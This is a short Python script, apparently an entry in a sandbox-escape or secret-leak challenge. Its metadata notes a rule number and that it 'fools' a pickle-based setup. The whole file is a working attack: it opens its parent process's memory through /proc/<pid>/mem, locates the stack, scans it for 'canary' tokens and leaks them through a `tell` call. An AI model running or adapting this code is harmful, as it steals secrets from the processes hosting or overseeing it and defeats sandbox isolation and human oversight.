# Searches the memory of the process that started it, through /proc.
# rule: 5
# fools: pickle
# success: leak
# with: every, tell

import os
import re


def trick(*args):
    parent = os.getppid()
    with open(f"/proc/{parent}/mem", "rb") as memory:
        for line in open(f"/proc/{parent}/maps"):
            if "[stack]" in line:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                memory.seek(start)
                tell(str(re.findall(rb"canary\w+", memory.read(end - start))))
